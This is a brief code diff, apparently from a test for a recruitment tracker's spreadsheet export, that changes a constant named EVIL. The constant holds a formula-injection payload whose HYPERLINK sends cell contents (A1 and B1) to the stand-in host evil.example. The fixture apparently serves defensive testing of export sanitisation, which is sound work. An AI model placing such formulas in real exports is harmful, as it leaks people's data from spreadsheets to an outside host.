@@ -14,7 +14,7 @@ from store.export import TrackerRow, columns, render
 
 FIXED = ["Candidate", "Client", "Company", "Role", "Recruiter", "Status", "Next step"]
 HEADER = [*FIXED, "Last contact", "Interview #1", "Interview #2", "Interview #3"]
-EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+EVIL = '=HYPERLINK("http://evil.example/?s="&A1&B1,"Click")'
 
 
 def row(candidate: str, *rounds: str, next_step: str = "Book round 2") -> TrackerRow:
